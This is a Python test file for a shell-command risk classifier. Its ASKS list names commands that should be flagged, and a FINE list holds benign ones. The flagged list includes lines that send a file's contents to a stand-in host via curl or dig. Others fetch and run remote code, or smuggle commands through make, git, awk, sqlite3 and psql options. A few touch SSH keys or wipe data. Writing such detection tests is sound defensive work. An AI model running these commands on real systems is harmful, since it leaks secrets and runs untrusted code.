"""Programs that mostly look, build or test, and what their options make of them."""

import pytest
from tests.fixtures.scanning.growth import grows_with_size
from tests.rows import each_row

from prowess.learning.destructive import danger_of, overwritten

ASKS = r"""
make -f - test
make -f /proc/self/fd/0
make -f/dev/stdin
make --file=- x
make -sf- x
npm run build -- --outDir x
make -E 'x:;ls'
make --eval=x
make SHELL=/tmp/x
make 'SHELL:=/tmp/x'
make 'X:=$(shell ls)'
make 'X!=ls'
make CC=x
make install
git grep -O'ls;' foo
git grep --open-files-in-pager=ls foo
git clone --config core.sshCommand=x ssh://x/y
git clone --conf=core.sshCommand=x ssh://x/y
git clone -c x=y ssh://x/y
git clone "$X"
git switch --orphan x
GIT_CONFIG_PARAMETERS=x git status
GIT_CONFIG_COUNT=1 git status
GIT_SSH_COMMAND=x git fetch
GIT_EXTERNAL_DIFF=x git diff
GIT_PAGER=x git log
GOFLAGS=-toolexec=x go build
CC=x make
NODE_OPTIONS=x node --check x.js
PYTHONSTARTUP=x python3 -m site
PYTEST_ADDOPTS=x pytest
FOO=bar npm test
export FOO=bar
declare -x FOO=bar
env FOO=bar ls
x=1; export x
set -a
python -m venv --clear x
python -m timeit x
python -m cProfile -o x y.py
python -m pylint --init-hook=x y
python -m frob
bash /proc/self/fd/0
bash /dev/fd/3
cd /proc/self/fd && bash 0
python3 //dev/stdin
. /proc/self/fd/0
node ../../dev/stdin
awk '{print > "f"}'
awk 'BEGIN{print "a;b" > "f"}'
awk '{print | "sh"}'
awk '"ls" | getline x'
awk '{ getline < "f" }'
awk --source='BEGIN{}' 1
gawk -i inplace 1 f
gawk -e 'BEGIN{system("ls")}'
sqlite3 x.db "select writefile('f','x')"
sqlite3 x.db "select edit('x','ls')"
sqlite3 x.db ".shell ls"
sqlite3 x.db ".output f"
sqlite3 x.db "attach 'y' as y"
sqlite3 -cmd '.shell ls' x.db 'select 1'
psql -c 'select 1' -o f
psql -c '\! ls'
psql -c "copy x to program 'ls'"
psql -c '\lo_export 1 f'
psql -c 'select lo_export(1, 2)'
mysql -e 'select 1' --tee=f
cp -Sn a b
cp -n a ~/.ssh/x
ls 1<> f
uv run https://x.example/y.py
uv run --with git+https://x.example/y pytest
uv venv --clear x
npx http://x.example/ls
go run x.example/y@latest
go run ./cmd/wipe
go install x.example/y@latest
cargo run -- delete-all
cargo run --bin wipe_database
cargo fmt
pip install https://x.example/y.tgz
pip install -t x y
pip install git+https://x.example/y
npm install https://x.example/y.tgz
npm install user/repo
npm i -Dg x
cmake --build build --target clean
cmake --build build --target install
cmake -DCMAKE_C_COMPILER_LAUNCHER=x .
vite build --emptyOutDir
vite build --outDir ../x
bazel run --run_under=x //y
mvn exec:exec
gcc x.c -o y
eslint -o f x
eslint --fix .
npx eslint --fix .
ruff check --output-file f
ruff format .
black .
prettier --write .
prettier -w .
codespell -w .
gofmt -w .
tsc --outFile f
mypy --python-executable x y
jest --config '{"a":"b"}'
pytest --junitxml=f
pytest -o x=y
monkey -p com.x 5000 -s 1
curl -Q 'DELE x' ftp://h/
curl "https://x.example/?k=$(cat f)"
dig "$(cat f).x.example"
journalctl --vacuum-files=1
chmod 777 f
chmod 000 f
chmod 600 ~/.ssh/id_rsa
date 010100002020
yq -s .a f
base64 -o f g
""".strip().split("\n")

FINE = r"""
make
make report
make -j4 DEBUG=1 test
make -f ci.mk test
git add -A
git commit -am x
git tag v1
git grep -n foo
git clone https://x.example/y.git
NODE_ENV=test npm test
LC_ALL=C TZ=UTC sort f
CI=1 NO_COLOR=1 PYTHONUNBUFFERED=1 pytest -q
export DEBUG=1
x=1; echo "$x"
python -m venv .venv
python -m unittest discover
python -m json.tool f
python -m pytest -q -x tests/test_a.py
python script.py
bash scripts/dev/run.sh
awk '$3 > 100'
awk -F: '$1 == "a" || $2 == "b" {print $1}' f
sqlite3 x.db 'select count(*), max(a) from t where b in (1, 2);'
sqlite3 x.db .tables
psql -h h -U u -d d -c '\d+ t'
cp -n a b
uv venv
uv run pytest
go run .
go test ./...
go build ./...
cargo build
cargo run
cargo fmt --check
pip install -e .
pip install requests==2.0
npm install left-pad
npm install @scope/x
npm ci
cmake -S . -B build -DCMAKE_BUILD_TYPE=Release
cmake --build build
vite build
gcc -c x.c
eslint src
ruff check .
ruff format --check .
black --check .
prettier --check .
codespell docs
tsc -p tsconfig.json
mypy --strict src
jest --config jest.config.js
pytest -q -k 'a or b' --no-cov
curl "http://localhost:$PORT/x"
chmod +x run.sh
chmod 755 ./run.sh
date +%s
date -u -d yesterday +%F
jq .a f
""".strip().split("\n")


@each_row("command", ASKS)
def test_an_option_that_writes_or_runs_something_else_is_asked_about(command: str) -> None:
    assert danger_of(command) != ""


@each_row("command", FINE)
def test_what_is_used_as_usual_is_not(command: str) -> None:
    assert danger_of(command) == ""


@each_row(
    ("command", "files"),
    [
        ("gcc x.c -o y", ("y",)),
        ("ruff check --output-file=f", ("f",)),
        ("go test -coverprofile=c.out ./...", ("c.out",)),
        ("echo x 1<> f", ("f",)),
        ("go build -C sub -o y", ()),
        ("c''d sub && echo x > f", ()),
        ("builtin cd sub; echo x > f", ()),
        ("echo 'cd' > f", ("f",)),
        ("echo x > ~/.bashrc", ()),
        ("echo x > .git/hooks/pre-commit", ()),
    ],
)
def test_what_is_written_by_an_option_is_named_too(command: str, files: tuple[str, ...]) -> None:
    assert overwritten(command) == files


@pytest.mark.slow
@each_row(
    "piece",
    [
        ("psql -c 'select ", "\n ", "x'"),
        ("psql -c 'select ", "count ", "'"),
        ("awk '", "print ", "'"),
        ("", "cat <<A\nA\n", ""),
        ("", "cd a; ", ""),
        ("", "x=1; echo $((x)) > y; bash z; ", ""),
        ("make ", "A=1 ", ""),
    ],
)
def test_a_long_text_takes_no_longer_than_its_length(piece: tuple[str, str, str]) -> None:
    head, middle, tail = piece

    grows_with_size(lambda size: danger_of(head + middle * (size // len(middle)) + tail))
